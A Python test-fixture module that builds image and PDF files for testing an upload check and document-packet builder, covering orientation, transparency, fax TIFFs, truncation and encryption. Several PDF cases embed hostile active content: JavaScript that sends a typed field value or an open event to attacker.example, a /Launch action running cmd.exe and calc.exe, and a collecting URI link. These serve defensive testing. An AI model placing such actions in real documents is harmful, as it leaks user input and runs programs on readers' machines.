"""Real-world and hostile document files for testing the upload check and the release-packet builder.

Every file is generated here, at test time, from code (nothing binary is checked in): images with Pillow, PDFs with
pikepdf, WeasyPrint or hand-written bytes. Each `Case` says what a careful implementation must do with its file:
"accept" it (and then show every page like `reference`, at the size `size_pt` when given), call it "damaged", or
ask for a "password". `assert_similar` compares a rendered page with a reference image.
"""

from __future__ import annotations

import io
import random
from collections.abc import Sequence
from dataclasses import dataclass
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw, ImageFont, ImageOps, ImageSequence

ACCEPT, DAMAGED, PASSWORD = "accept", "damaged", "password"
LETTER = (612, 792)


@dataclass(frozen=True)
class Case:
    name: str  # short slug, e.g. "tiff-grey-alpha"
    filename: str  # what the sender called it, e.g. "scan.tif"
    data: bytes
    expect: str  # "accept", "damaged" or "password"
    pages: int = 1  # pages it must have when accepted (otherwise: the intact document's pages, 0 when none)
    # Accepted images only: the page size in PDF points the file's DPI implies, upright (after EXIF orientation), or
    # None when the file carries no usable DPI. PNG stores pixels per metre, so its size is off by up to ~0.01%.
    size_pt: tuple[float, float] | None = None
    reference: tuple[Image.Image, ...] = ()  # Pillow RGB images, one per page, upright, flattened on white
    note: str = ""  # what the case is about, one line


# ---------------------------------------------------------------- pictures


def scene(size: tuple[int, int], label: str = "A", *, corner: str = "tl") -> Image.Image:
    """A white RGB picture with structure: a dark block in one corner (so a rotation or a mirror shows), a red disc
    in the opposite corner, a blue-to-orange gradient band across the middle and a big label."""
    w, h = size
    im = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(im)
    for x in range(w):
        t = x / max(w - 1, 1)
        draw.line([(x, h * 2 // 5), (x, h * 11 // 20)], fill=(int(255 * t), 110, int(255 * (1 - t))))
    left, top = corner[1] == "l", corner[0] == "t"
    bx, by = (0 if left else w - w // 3), (0 if top else h - h // 4)
    draw.rectangle((bx, by, bx + w // 3 - 1, by + h // 4 - 1), fill=(25, 25, 40))
    r = min(w, h) // 8
    cx, cy = (w - w // 6 if left else w // 6), (h - h // 6 if top else h // 6)
    draw.ellipse((cx - r, cy - r, cx + r, cy + r), fill=(200, 30, 30))
    draw.text((w * 2 // 5, h * 3 // 5), label, fill=(0, 0, 0), font=ImageFont.load_default(size=max(h // 6, 8)))
    return im


def _with_alpha(rgb: Image.Image) -> Image.Image:
    """RGBA: the white background fully transparent and black underneath (so a renderer that drops alpha shows
    black), the gradient band half transparent."""
    w, h = rgb.size
    mask = rgb.convert("L").point(lambda v: 0 if v >= 250 else 255)
    ImageDraw.Draw(mask).rectangle((0, h * 2 // 5, w, h * 11 // 20), fill=128)
    clear = Image.new("RGBA", rgb.size, (0, 0, 0, 0))
    rgba = rgb.convert("RGBA")
    rgba.putalpha(mask)
    return Image.composite(rgba, clear, mask.point(lambda v: 255 if v else 0))


def _grey16(size: tuple[int, int]) -> Image.Image:
    """16-bit grey ("I;16"): a ramp over the whole 0..65535 range across the top, light grey below, a dark block, a
    dark disc and dark text. Only the ramp's first column is below 256, so a renderer that clips instead of scaling
    shows a white page."""
    w, h = size
    im = Image.new("I", size, 45000)
    draw = ImageDraw.Draw(im)
    for x in range(w):
        draw.line([(x, 0), (x, h * 3 // 5)], fill=round(65535 * x / (w - 1)))
    draw.rectangle((0, 0, w // 3, h // 4), fill=6000)
    draw.ellipse((w // 12, h * 2 // 3, w // 12 + h // 4, h * 2 // 3 + h // 4), fill=12000)
    draw.text((w // 2, h * 2 // 3), "16", fill=3000, font=ImageFont.load_default(size=h // 4))
    return im.convert("I;16")


def _fax(size: tuple[int, int]) -> Image.Image:
    """A 1-bit fax page: letterhead block top left, lines of text, a signature box."""
    w, h = size
    im = Image.new("1", size, 1)
    draw = ImageDraw.Draw(im)
    draw.rectangle((60, 60, w // 3, h // 8), fill=0)
    font = ImageFont.load_default(size=max(h // 30, 12))
    for i in range(8):
        draw.text((80, h // 5 + i * h // 14), f"Progress note line {i + 1}: patient seen, plan unchanged.", font=font)
    draw.rectangle((w // 2, h - h // 5, w - 80, h - 60), outline=0, width=6)
    return im


def _flatten(im: Image.Image) -> Image.Image:
    """What a correct renderer shows: EXIF orientation applied, 16-bit scaled (/257) to 8-bit, palette expanded,
    alpha composited on white, then RGB (CMYK by Pillow's own conversion)."""
    im = ImageOps.exif_transpose(im)
    if im.mode in ("I", "I;16", "I;16B", "I;16L"):
        im = im.convert("I").point(lambda v: v * (1 / 257)).convert("L")
    if im.mode in ("RGBA", "LA", "PA", "P") or "transparency" in im.info:
        im = Image.alpha_composite(Image.new("RGBA", im.size, "white"), im.convert("RGBA"))
    return im.convert("RGB")


def _encode(im: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    im.save(out, fmt, **options)
    return out.getvalue()


def _image(name: str, filename: str, data: bytes, dpi: tuple[float, float] | None, note: str) -> Case:
    """An accepted image case; its references are the file as Pillow decodes it, flattened (see `_flatten`)."""
    im = Image.open(io.BytesIO(data))
    frames = tuple(_flatten(frame) for frame in ImageSequence.Iterator(im))
    size_pt = None
    if dpi:
        size_pt = (im.width * 72 / dpi[0], im.height * 72 / dpi[1])
        if im.getexif().get(0x0112) in (5, 6, 7, 8):  # EXIF orientation turns the picture a quarter
            size_pt = (size_pt[1], size_pt[0])
    return Case(name, filename, data, ACCEPT, len(frames), size_pt, frames, note)


# How ImageOps.exif_transpose undoes each orientation's turn, inverted: what a camera stores for an upright scene.
_STORED_TURN = {3: Image.Transpose.ROTATE_180, 6: Image.Transpose.ROTATE_90, 8: Image.Transpose.ROTATE_270}


def _exif_jpeg(orientation: int) -> Case:
    upright = scene((240, 320), f"E{orientation}")
    exif = Image.Exif()
    exif[0x0112] = orientation
    data = _encode(upright.transpose(_STORED_TURN[orientation]), "JPEG", quality=92, dpi=(200, 200), exif=exif)
    note = f"portrait scene stored turned, EXIF Orientation={orientation}; upright it is 240x320 px at 200 dpi"
    return _image(f"jpeg-exif-rotated-{orientation}", f"IMG_000{orientation}.jpg", data, (200, 200), note)


@cache
def _tiff_webp_writable() -> bool:
    try:
        _encode(Image.new("RGB", (8, 8)), "TIFF", compression="webp")
    except OSError:
        return False
    return True


def image_cases() -> list[Case]:
    rgb = scene((300, 200), "PNG")
    rgba = _with_alpha(scene((300, 200), "RGBA", corner="bl"))
    palette = scene((300, 200), "P", corner="tr").quantize(colors=64)
    holey = scene((300, 200), "tRNS", corner="br").quantize(colors=64)
    hole = holey.getpixel((0, 0))  # the white background's index: made transparent, and black underneath
    colours = holey.getpalette() or []
    colours[hole * 3 : hole * 3 + 3] = [0, 0, 0]
    holey.putpalette(colours)
    cmyk = scene((400, 300), "CMYK").convert("CMYK")
    jpeg = _encode(scene((400, 300), "JPEG"), "JPEG", quality=90, dpi=(300, 300))
    frames = [scene((320, 240), str(n), corner=c) for n, c in ((1, "tl"), (2, "tr"), (3, "br"))]
    multipage = _encode(frames[0], "TIFF", save_all=True, append_images=frames[1:], dpi=(200, 200))
    g4 = {"compression": "group4"}
    accepted = [
        ("png-rgb", "chart.png", _encode(rgb, "PNG", dpi=(150, 150)), (150, 150), "RGB PNG, pHYs 150 dpi"),
        ("png-rgba", "logo.png", _encode(rgba, "PNG", dpi=(150, 150)), (150, 150),
         "RGBA: the transparent areas are black underneath and must come out white"),
        ("png-palette", "form.png", _encode(palette, "PNG", dpi=(100, 100)), (100, 100), "64-colour palette PNG"),
        ("png-palette-transparency", "stamp.png", _encode(holey, "PNG", dpi=(100, 100), transparency=hole), (100, 100),
         "palette PNG whose background index is transparent (tRNS) and black: must come out white"),
        ("png-grey-alpha", "sig.png", _encode(rgba.convert("LA"), "PNG", dpi=(150, 150)), (150, 150),
         "grey + alpha (LA): the transparent areas must come out white"),
        ("png-16bit-grey", "xray.png", _encode(_grey16((256, 200)), "PNG", dpi=(96, 96)), (96, 96),
         "16-bit grey (I;16) over 0..65535: scaled by 1/257; clipping shows white"),
        ("png-1bit", "bw.png", _encode(scene((300, 200), "1bit").convert("1"), "PNG", dpi=(200, 200)), (200, 200),
         "1-bit (dithered) PNG"),
        ("png-no-dpi", "screenshot.png", _encode(scene((300, 200), "NoDPI", corner="br"), "PNG"), None,
         "no pHYs chunk: no DPI"),
        ("jpeg-rgb", "scan.jpg", jpeg, (300, 300), "baseline RGB JPEG, JFIF 300 dpi"),
        ("jpeg-grey", "scan-grey.jpg", _encode(scene((400, 300), "Grey").convert("L"), "JPEG", dpi=(200, 200)),
         (200, 200), "greyscale JPEG, 200 dpi"),
        ("jpeg-cmyk", "print.jpg", _encode(cmyk, "JPEG", dpi=(300, 300)), (300, 300),
         "CMYK JPEG (Adobe marker, inverted); the reference is Pillow's convert('RGB')"),
        ("jpeg-phone-photo", "IMG_4032.jpg", _encode(scene((1600, 1200), "Phone"), "JPEG", dpi=(72, 72)), (72, 72),
         "1600x1200 photo at 72 dpi: 22.2 x 16.7 in, bigger than a letter page"),
        ("tiff-fax-standard", "fax.tif", _encode(_fax((1728, 1100)), "TIFF", dpi=(204, 98), **g4), (204, 98),
         "fax page: 1-bit, CCITT G4, 204x98 dpi (pixels twice as tall as wide)"),
        ("tiff-fax-fine", "fax-fine.tif", _encode(_fax((1728, 2200)), "TIFF", dpi=(204, 196), **g4), (204, 196),
         "fine fax page: 1-bit, CCITT G4, 204x196 dpi"),
        ("tiff-multipage", "records.tif", multipage, (200, 200), "3 uncompressed frames, each different"),
        ("tiff-grey-alpha", "sig.tif", _encode(rgba.convert("LA"), "TIFF", dpi=(150, 150)), (150, 150),
         "grey + alpha TIFF: the transparent areas must come out white"),
        ("tiff-16bit-grey", "xray.tif", _encode(_grey16((256, 200)), "TIFF", dpi=(96, 96)), (96, 96),
         "16-bit grey TIFF over 0..65535: scaled by 1/257; clipping shows white"),
        ("tiff-cmyk", "print.tif", _encode(cmyk, "TIFF", compression="tiff_lzw", dpi=(300, 300)), (300, 300),
         "CMYK TIFF, LZW"),
        ("tiff-palette", "form.tif", _encode(palette, "TIFF", dpi=(100, 100)), (100, 100), "palette TIFF"),
        ("tiff-lzw", "scan.tif", _encode(rgb, "TIFF", compression="tiff_lzw", dpi=(150, 150)), (150, 150),
         "RGB TIFF, LZW"),
        # 100 pixels per centimetre: Pillow reports info["dpi"] == (254.0, 254.0).
        ("tiff-cm-units", "scan-cm.tif", _encode(rgb, "TIFF", x_resolution=100, y_resolution=100,
         resolution_unit="cm"), (254, 254), "ResolutionUnit centimetre: 100 px/cm = 254 dpi"),
    ]  # fmt: skip
    cases = [_image(*spec) for spec in accepted] + [_exif_jpeg(orientation) for orientation in (6, 8, 3)]
    cases += [
        Case("jpeg-truncated", "scan-partial.jpg", jpeg[: len(jpeg) * 6 // 10], DAMAGED, note="JPEG cut to 60% "
             "(no EOI): Pillow raises 'truncated' unless ImageFile.LOAD_TRUNCATED_IMAGES is set (importing "
             "WeasyPrint sets it), then it paints the missing rows grey"),
        Case("tiff-truncated", "records-partial.tif", multipage[: len(multipage) // 2], DAMAGED, 3, note="3-frame "
             "TIFF cut in half: frame 2 ends early, frame 3 is gone (with LOAD_TRUNCATED_IMAGES only frame 3 fails)"),
    ]  # fmt: skip
    # WebP-compressed TIFF needs a libtiff built with WebP; the one in Pillow 13's wheel is not ("WEBP compression
    # support is not configured"), so the case appears only where it can be written.
    if _tiff_webp_writable():
        data = _encode(rgb, "TIFF", compression="webp", quality=90, dpi=(150, 150))
        cases.append(_image("tiff-webp-compressed", "scan-webp.tif", data, (150, 150), "TIFF with WebP compression"))
    return cases


# ---------------------------------------------------------------- PDFs


def _pdf_string(text: str) -> bytes:
    return b"(" + text.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


def _page_content(text: str, size: tuple[float, float]) -> bytes:
    """A dark block in the top-left corner (so a rotation shows) and the text's lines in Helvetica (/F1), as large
    as fits."""
    w, h = size
    lines = text.split("\n")
    fs = min(h / 6, h * 0.6 / (1.4 * len(lines)), w * 0.65 / (0.55 * max(len(line) for line in lines)))
    ops = [b"0.1 0.1 0.15 rg 0 %.2f %.2f %.2f re f 0 g" % (h * 0.8, w * 0.25, h * 0.2)]
    for i, line in enumerate(lines):
        ops.append(b"BT /F1 %.2f Tf %.2f %.2f Td %s Tj ET" % (fs, w * 0.3, h * 0.7 - i * fs * 1.4, _pdf_string(line)))
    return b"\n".join(ops)


def _doc(*pages: str | tuple[str, tuple[float, float]]) -> pikepdf.Pdf:
    """A PDF with one page per item: its text, on a letter page or of the size given."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )
    for page in pages:
        text, size = (page, LETTER) if isinstance(page, str) else page
        blank = pdf.add_blank_page(page_size=size)
        blank.Resources = Dictionary(Font=Dictionary(F1=font))
        blank.Contents = pdf.make_stream(_page_content(text, size))
    return pdf


def _save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def pdf_pages(n: int, *, size: tuple[float, float] = LETTER) -> bytes:
    """An n-page PDF, quickly (for benchmarks and long documents); page k shows "Page k" in big type."""
    return _save(_doc(*((f"Page {k}", size) for k in range(1, n + 1))))


def _js(script: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(script))


def _annot(subtype: str, rect: Sequence[float], **entries: object) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array(rect), F=4, **entries)


def _form_fields() -> bytes:
    pdf = _doc("Form fields\n(values only in widgets)")
    page = pdf.pages[0]
    fonts = Dictionary(Helv=page.Resources.Font.F1)

    def look(ops: bytes, width: float, height: float) -> pikepdf.Stream:
        bbox = Array([0, 0, width, height])
        return pdf.make_stream(ops, Type=Name.XObject, Subtype=Name.Form, BBox=bbox, Resources=Dictionary(Font=fonts))

    def text_field(name: str, value: str, y: float, **entries: object) -> Dictionary:
        shown = look(b"/Tx BMC q BT /Helv 14 Tf 0 g 3 7 Td %s Tj ET Q EMC" % _pdf_string(value), 220, 26)
        data = {"FT": Name.Tx, "T": String(name), "V": String(value), "DA": String("/Helv 14 Tf 0 g")}
        return _annot("/Widget", [72, y, 292, y + 26], AP=Dictionary(N=shown), **data, **entries)

    tick = Dictionary(Yes=look(b"q 0 g 2 w 3 3 m 15 15 l S 3 15 m 15 3 l S Q", 18, 18), Off=look(b"", 18, 18))
    box = _annot(
        "/Widget", [72, 260, 90, 278], FT=Name.Btn, T=String("consent"), V=Name.Yes, AS=Name.Yes, AP=Dictionary(N=tick)
    )
    keystroke = Dictionary(K=_js("app.launchURL('https://attacker.example/k?'+event.value);"), F=_js("event.value='';"))
    widgets = (text_field("record_id", "FLATTEN-ME-42", 300), box, text_field("dob", "1970-01-01", 220, AA=keystroke))
    fields = [pdf.make_indirect(field) for field in widgets]
    for field in fields:
        field.P = page.obj
    page.Annots = Array(fields)
    pdf.Root.AcroForm = Dictionary(Fields=Array(fields), DR=Dictionary(Font=fonts), DA=String("/Helv 0 Tf 0 g"))
    return _save(pdf)


def _embedded_file() -> bytes:
    pdf = _doc("Embedded file\nattached: notes.txt")
    contents = pdf.make_stream(b"Attached notes: never part of a release.\n", Type=Name.EmbeddedFile)
    spec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("notes.txt"), UF=String("notes.txt"), EF=Dictionary(F=contents))
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("notes.txt"), spec])))
    pin = _annot("/FileAttachment", [72, 200, 92, 224], FS=spec, Contents=String("notes.txt"), Name=Name.PushPin)
    pdf.pages[0].Annots = Array([pdf.make_indirect(pin)])
    return _save(pdf)


def _links() -> bytes:
    pdf = _doc("Launch and URI links\nclick here to open\nor here to visit")
    launch = Dictionary(
        S=Name.Launch,
        F=String("C:\\Windows\\System32\\cmd.exe"),
        Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe")),
    )
    uri = Dictionary(S=Name.URI, URI=String("https://attacker.example/collect"))
    links = [
        _annot("/Link", [170, 430, 560, 480], Border=Array([0, 0, 1]), A=launch),
        _annot("/Link", [170, 370, 560, 420], Border=Array([0, 0, 1]), A=uri),
    ]
    pdf.pages[0].Annots = Array([pdf.make_indirect(link) for link in links])
    return _save(pdf)


def _raw_pdf(objects: Sequence[bytes]) -> bytes:
    """A classic PDF by hand: objects numbered from 1 (1 is the catalog), an xref table and a trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _raw_stream(data: bytes, *, length: int | None = None) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data) if length is None else length, data)


def _raw_page(content: bytes) -> list[bytes]:
    """Objects 1-5 of a one-page letter PDF: catalog, pages, page, its content (object 4) and Helvetica."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>"
        b" /Contents 4 0 R >>",
        content,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]


def _incremental_update() -> bytes:
    """Page 1 says ORIGINAL; an appended update (new xref section with /Prev) points it at content saying REVISED."""
    base = _raw_pdf(_raw_page(_raw_stream(_page_content("ORIGINAL", LETTER))))
    prev = int(base[base.rindex(b"startxref") + 9 :].split()[0])
    update = bytearray(base)
    page_at = len(update)
    update += b"3 0 obj\n%s\nendobj\n" % _raw_page(b"")[2].replace(b"4 0 R", b"6 0 R")
    content_at = len(update)
    update += b"6 0 obj\n%s\nendobj\n" % _raw_stream(_page_content("REVISED", LETTER))
    xref = len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n3 1\n%010d 00000 n \n6 1\n%010d 00000 n \n" % (page_at, content_at)
    update += b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (prev, xref)
    return bytes(update)


def _content_ends_early() -> bytes:
    """The content stream stops mid-operator ("72 300 2", no "re") and its /Length claims 40 bytes more than there
    are, so "endstream" is not where the length says."""
    ops = _page_content("Drawn before the cut", LETTER) + b"\n0 0 1 rg 72 300 2"
    return _raw_pdf(_raw_page(_raw_stream(ops, length=len(ops) + 40)))


def _plain() -> bytes:
    from weasyprint import HTML  # imported here: it takes most of a second, and only this case needs it

    pages = [
        f'<h1 style="page-break-before: {"always" if n > 1 else "auto"}">Record page {n}</h1>'
        f"<p>Discharge summary, page {n} of 3. Plain text laid out by WeasyPrint.</p>"
        for n in (1, 2, 3)
    ]
    return HTML(string=f"<html><body>{''.join(pages)}</body></html>").write_pdf()


def pdf_cases() -> list[Case]:
    rotated = _doc("Rotate 90", "Rotate 270")
    rotated.pages[0].Rotate, rotated.pages[1].Rotate = 90, 270
    scripted = _doc("Document JavaScript\nand an OpenAction")
    startup = scripted.make_indirect(_js("app.alert('document JavaScript ran');"))
    scripted.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), startup])))
    scripted.Root.OpenAction = _js("app.launchURL('https://attacker.example/opened', true);")
    page_aa = _doc("Page additional actions\n/AA open and close")
    page_aa.pages[0].AA = Dictionary(
        O=_js("app.alert('page opened');"), C=Dictionary(S=Name.Launch, F=String("calc.exe"))
    )
    secret = _doc("Encrypted", "page two")
    aes = pikepdf.Encryption(user="user-pw", owner="owner-pw", R=6)
    rc4 = pikepdf.Encryption(user="user-pw", owner="owner-pw", R=3, aes=False, metadata=False)
    no_copying = pikepdf.Permissions(extract=False, modify_other=False)
    owner_only = pikepdf.Encryption(user="", owner="owner-pw", R=6, allow=no_copying)
    four = pdf_pages(4)
    mixed = _doc(("Letter", LETTER), ("A4", (595, 842)), ("Legal landscape", (1008, 612)))
    compact = _doc("Object streams", "and an xref stream")
    return [
        Case("pdf-plain", "discharge.pdf", _plain(), ACCEPT, 3, note="3 A4 pages of text from WeasyPrint"),
        Case("pdf-rotated", "rotated.pdf", _save(rotated), ACCEPT, 2,
             note="letter MediaBox, page 1 /Rotate 90, page 2 /Rotate 270: both show landscape"),
        Case("pdf-tiny-page", "label.pdf", _save(_doc(("Label 2x1 in", (144, 72)))), ACCEPT,
             note="a 144 x 72 pt page (a label)"),
        Case("pdf-huge-page", "drawing.pdf", _save(_doc(("Plan 34x44 in", (2448, 3168)))), ACCEPT,
             note="a 2448 x 3168 pt page (34 x 44 in)"),
        Case("pdf-mixed-sizes", "mixed.pdf", _save(mixed), ACCEPT, 3, note="letter, A4 and legal-landscape pages"),
        Case("pdf-content-stream-ends-early", "cut-content.pdf", _content_ends_early(), ACCEPT,
             note="content stops mid-operator ('72 300 2'), /Length 40 too long: qpdf (warning) and PDFium recover "
             "the stream and show the text drawn before the cut"),
        Case("pdf-truncated", "half.pdf", four[: len(four) // 2], DAMAGED, 4,
             note="4-page PDF cut to 50% (no xref, no trailer): PDFium refuses it (data format error); qpdf rebuilds "
             "it with warnings and counts 4 pages, 2-4 without content"),
        Case("pdf-garbage-after-header", "garbage.pdf", b"%PDF-1.7\n" + random.Random(1234).randbytes(4000),
             DAMAGED, 0, note="a PDF header, then 4000 random bytes"),
        Case("pdf-zero-pages", "empty.pdf", _save(pikepdf.new()), DAMAGED, 0,
             note="well-formed, empty page tree (qpdf opens it, PDFium refuses it)"),
        Case("pdf-password-user", "locked.pdf", _save(secret, encryption=aes), PASSWORD, 2,
             note="AES-256 (R6) with a user password"),
        Case("pdf-password-rc4", "locked-rc4.pdf", _save(secret, encryption=rc4), PASSWORD, 2,
             note="RC4 128-bit (R3) with a user password"),
        Case("pdf-owner-only", "restricted.pdf", _save(secret, encryption=owner_only), ACCEPT, 2,
             note="AES-256, empty user password + owner password, copying/changing forbidden: opens without one"),
        Case("pdf-javascript", "scripted.pdf", _save(scripted), ACCEPT,
             note="document-level JavaScript in /Names /JavaScript and an /OpenAction JavaScript action"),
        Case("pdf-form-fields", "form.pdf", _form_fields(), ACCEPT,
             note="value: FLATTEN-ME-42 (only in the text field's appearance stream), a ticked checkbox, a field "
             "with /AA JavaScript (value 1970-01-01)"),
        Case("pdf-embedded-file", "attached.pdf", _embedded_file(), ACCEPT,
             note="an /EmbeddedFiles name tree (notes.txt) and a FileAttachment annotation"),
        Case("pdf-launch-link", "links.pdf", _links(), ACCEPT,
             note="a Link annotation with a /Launch action (cmd.exe) and one with a /URI action"),
        Case("pdf-page-aa", "page-aa.pdf", _save(page_aa), ACCEPT, note="page /AA: JavaScript on open, /Launch on close"),
        Case("pdf-object-streams", "compact.pdf", _save(compact, object_stream_mode=pikepdf.ObjectStreamMode.generate),
             ACCEPT, 2, note="objects in object streams, a cross-reference stream (PDF 1.5)"),
        Case("pdf-incremental-update", "amended.pdf", _incremental_update(), ACCEPT,
             note="an appended incremental update changes page 1 from ORIGINAL to REVISED"),
        Case("pdf-many-pages", "long.pdf", pdf_pages(60), ACCEPT, 60, note="60 pages, each showing its number"),
    ]  # fmt: skip


def all_cases() -> list[Case]:
    cases = image_cases() + pdf_cases()
    assert len({case.name for case in cases}) == len(cases), "case names must be unique"
    return cases


# ---------------------------------------------------------------- comparing renders


def _grey_thumbnail(im: Image.Image) -> list[int]:
    if im.mode in ("RGBA", "LA", "PA", "P"):
        im = Image.alpha_composite(Image.new("RGBA", im.size, "white"), im.convert("RGBA"))
    return list(im.convert("L").resize((64, 64), Image.Resampling.BOX).tobytes())


def similarity(rendered: Image.Image, reference: Image.Image) -> float:
    """Pearson correlation of the two images' pixels, both as 64 x 64 grey thumbnails: 1 is the same picture,
    ~0 unrelated (a blank page against anything with structure), negative inverted."""
    a, b = _grey_thumbnail(rendered), _grey_thumbnail(reference)
    ma, mb = sum(a) / len(a), sum(b) / len(b)
    va = sum((x - ma) ** 2 for x in a)
    vb = sum((y - mb) ** 2 for y in b)
    if not va or not vb:  # a flat image: only another flat image of the same shade is like it
        return 1.0 if not va and not vb and abs(ma - mb) < 2 else 0.0
    return sum((x - ma) * (y - mb) for x, y in zip(a, b, strict=True)) / (va * vb) ** 0.5


def assert_similar(rendered: Image.Image, reference: Image.Image, *, min_score: float = 0.9) -> float:
    """Raise AssertionError unless `rendered` looks like `reference` (see `similarity`); return the score.

    >>> picture = scene((300, 200))
    >>> assert_similar(picture.resize((600, 400)), picture) > 0.99
    True
    >>> similarity(picture.rotate(90, expand=True), picture) < 0.9  # turned a quarter
    True
    >>> similarity(Image.new("RGB", (300, 200), "white"), picture) < 0.1  # blank
    True
    """
    score = similarity(rendered, reference)
    if score < min_score:
        raise AssertionError(f"rendered image differs from the reference: similarity {score:.3f} < {min_score}")
    return score
